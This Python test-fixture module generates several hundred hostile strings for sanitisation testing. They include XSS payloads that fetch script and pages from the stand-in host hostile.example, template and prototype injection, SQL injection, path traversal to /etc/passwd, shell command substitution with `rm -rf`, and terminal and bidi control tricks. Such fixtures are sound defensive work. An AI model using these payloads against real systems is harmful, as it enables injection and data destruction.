"""300 names and texts of somebody who means no good: labels, paths, log lines, error texts.

Each that is taken for HTML, Markdown or a template calls `hit`, asks `hostile.example`, or leaves
an element with the attribute `data-hostile`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

HOST = "hostile.example"
MARK = "data-hostile"

_SCRIPTS = (
    "<script {m}>hit({n})</script>",
    "<ScRiPt {m} src=https://{h}/{n}.js></sCrIpT>",
    "</span></div><script {m}>hit({n})</script>",
    "<svg {m} onload=hit({n})>",
    "<svg {m}><script>hit({n})</script></svg>",
    "<svg {m}><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<math {m}><mtext></mtext><mglyph><style><img src=x onerror=hit({n})>",
    "<iframe {m} srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe {m} src=javascript:parent.hit({n})></iframe>",
    "<object {m} data=https://{h}/{n}></object>",
    "<embed {m} src=https://{h}/{n}>",
    "<template {m}><script>hit({n})</script></template>",
    "<noscript {m}><img src=x onerror=hit({n})></noscript>",
    "<base {m} href=https://{h}/{n}/>",
    "<meta {m} http-equiv=refresh content='0;url=https://{h}/{n}'>",
    "<link {m} rel=stylesheet href=https://{h}/{n}.css>",
    "<style {m}>@import 'https://{h}/{n}.css';</style>",
)
_HANDLERS = (
    "<img {m} src=x onerror=hit({n})>",
    "<img {m} src=https://{h}/{n}.png>",
    "<img {m} srcset='https://{h}/{n}.png 1x'>",
    '"><img {m} src=x onerror="hit({n})',
    "' onmouseover='hit({n})' {m}='",
    '" autofocus onfocus="hit({n})" {m}="',
    "<input {m} autofocus onfocus=hit({n})>",
    "<details {m} open ontoggle=hit({n})>",
    "<video {m}><source onerror=hit({n})></video>",
    "<audio {m} src=x onerror=hit({n})>",
    "<body {m} onload=hit({n})>",
    "<marquee {m} onstart=hit({n})>x</marquee>",
    "<button {m} onclick=hit({n})>Start</button>",
    "<a {m} href='javascript:hit({n})'>Details</a>",
    "<a {m} href='&#x6a;avascript:hit({n})'>Log</a>",
    "<form {m} action=https://{h}/{n}><input type=submit></form>",
    "<p {m} style='background:url(https://{h}/{n})'>",
    "<x-{n} {m} onfocus=hit({n}) tabindex=1>",
    "&lt;img {m} src=x onerror=hit({n})&gt;",
    "%3Cimg {m} src=x onerror=hit({n})%3E",
    "\\u003cimg {m} src=x onerror=hit({n})\\u003e",
    "<!--><img {m} src=x onerror=hit({n})>-->",
    "<![CDATA[<img {m} src=x onerror=hit({n})>]]>",
    "<img {m}\nsrc=x\tonerror\x0c=hit({n})>",
    "<img {m} src='data:image/svg+xml,<svg onload=hit({n})>'>",
)
_MARKUP = (
    "![x](https://{h}/{n}.png)",
    "[Restart](javascript:hit({n}))",
    "[Log in](https://{h}/{n})",
    "<https://{h}/{n}>",
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})//",
    "data:text/html,<script>hit({n})</script>",
    "vbscript:hit({n})",
    "https://{h}/{n}",
    "//{h}/{n}",
    "file:///etc/passwd#{n}",
    "`code {n}` **bold** ~~gone~~ # heading",
    "| a | b |\n|---|---|\n| {n} | x |",
    "$\\href{{javascript:hit({n})}}{{x}}$",
    "```html\n<img {m} src=x onerror=hit({n})>\n```",
    "%1 %2 %3 %% %s %({n})d {{0}} {{{n}}}",
    "${{hit({n})}} #{{hit({n})}} {{{{hit({n})}}}} <%= hit({n}) %>",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "__proto__",
    "constructor",
)
_SIGNS = (
    "\x1b[31mred {n}\x1b[0m\x1b]8;;https://{h}/{n}\x07link\x1b]8;;\x07",
    "\x1b]0;title {n}\x07\x1b[2J\x1b[H",
    "\u202e gnp.{n}-egami \u202c",
    "\u2066{n}\u2067\u2068\u2069\u200f\u200e",
    "zero\u200b\u200c\u200d\u2060\ufeffwidth {n}",
    "nul\x00byte {n}",
    "back\x08space\x7f{n}\r\nline\u2028separator\u2029",
    "'; DROP TABLE launches; -- {n}",
    "../../../../etc/passwd/{n}",
    "\\\\server\\share\\{n}",
    "$(touch {n}) `touch {n}` ; rm -rf {n} | cat",
    "😀👩‍🔬🏳️‍🌈 {n} 𝕳𝖊𝖑𝖑𝖔 ﷽",
    "Z̸̡̢̛͖̺͈͇̹̤͎͑̀͌̃̋̚a̵̧̨̛l̶̢̛g̷o {n}",
)
_TEMPLATES = (*_SCRIPTS, *_HANDLERS, *_MARKUP, *_SIGNS)
_SHAPES = (
    "{text}",
    "train {text}.ipynb",
    "\u202e{text}\u202c \"'`",
    "{text}" + "-" + "W" * 2000,
)


def _all() -> Iterator[str]:
    for shape in _SHAPES:
        for template in _TEMPLATES:
            yield shape.replace("{text}", template)


HOSTILE = tuple(
    text.replace("{m}", f"{MARK}={number}")
    .replace("{n}", str(number))
    .replace("{h}", HOST)
    .replace("{{", "{")
    .replace("}}", "}")
    for number, text in enumerate(_all())
)


class Texts:
    """Hands the texts out, one after the other, again from the first one after the last."""

    def __init__(self, texts: tuple[str, ...]) -> None:
        self._texts = cycle(texts)
        self.given = 0

    def __call__(self) -> str:
        """The next one."""
        self.given += 1
        return next(self._texts)
